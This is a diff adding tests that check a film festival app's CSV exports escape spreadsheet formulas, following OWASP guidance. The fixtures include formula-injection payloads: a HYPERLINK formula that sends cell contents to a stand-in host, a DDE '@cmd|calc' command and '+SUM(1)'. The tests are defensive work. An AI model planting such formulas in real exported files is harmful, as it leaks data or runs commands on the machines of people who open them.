@@ -1,6 +1,6 @@
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { and, asc, eq } from 'drizzle-orm';
-import { audit, candidate, film, recusal, user } from '@/db/schema';
+import { audit, award, candidate, film, recusal, user } from '@/db/schema';
 import { seededDb, type TestDb } from '@/tests/db';
 import { fixture, nominationId } from '@/tests/festival';
 import { bytes, expectCommonRefusals, expectRefused, run } from '@/lib/admin/test-helpers';
@@ -146,5 +146,33 @@ describe('films: CSV export', () => {
     expect(filmsCsv(again)).toBe(csv);
     expect(csv).toContain('"Жол\nүстінде"');
     expect(csv).toContain('"The Lamplighter, ""night"" cut"');
+  });
+});
+
+describe('CSV exports neutralise formulas (OWASP)', () => {
+  const EVIL = '=HYPERLINK("http://evil.test/?"&A1,"Winner")';
+  // Every cell of a CSV as a spreadsheet would see it (quotes removed, "" undone).
+  const cells = (csv: string) => csv.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean).flatMap((l) => l.match(/"(?:[^"]|"")*"|[^,]*/g)!.filter((c, i, a) => !(c === '' && a[i - 1]?.length)).map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"')));
+
+  it('the film list: a formula title is written as text and still imports back unchanged', async () => {
+    const { filmsCsv } = await import('./export');
+    const { currentFilms } = await import('./specs');
+    run(t, importFilmsSpec, { csv: fixture('films-23.csv') });
+    const first = t.db.select({ id: film.id }).from(film).orderBy(asc(film.id)).get()!;
+    t.db.update(film).set({ englishTitle: EVIL, director: '@cmd|calc' }).where(eq(film.id, first.id)).run();
+    const csv = filmsCsv(t.db.transaction((tx) => currentFilms(tx)));
+    expect(cells(csv).filter((c) => /^[=+@\t\r]/.test(c) || /^-\D/.test(c))).toEqual([]);
+    expect(csv).toContain(`"'${EVIL.replace(/"/g, '""')}"`);
+    expect(run(t, previewFilmImportSpec, { csv: new TextEncoder().encode(csv) })).toMatchObject({ errors: [], updated: [] });
+  });
+
+  it('the public awards file: a winner’s formula title is written as text', async () => {
+    const { awardsCsv } = await import('@/lib/round/results');
+    const c = t.db.select({ id: candidate.id, filmId: candidate.filmId, nominationId: candidate.nominationId }).from(candidate).orderBy(asc(candidate.id)).get()!;
+    t.db.update(film).set({ englishTitle: EVIL, originalTitle: '+SUM(1)' }).where(eq(film.id, c.filmId)).run();
+    t.db.insert(award).values({ nominationId: c.nominationId, candidateId: c.id, aggregate: '-1/3', margin: '2' }).run();
+    const csv = awardsCsv(t.db);
+    expect(csv).toContain(EVIL.slice(1, 10));
+    expect(cells(csv).filter((x) => /^[=+@\t\r]/.test(x) || /^-\D/.test(x) || x === '-1/3')).toEqual([]);
   });
 });
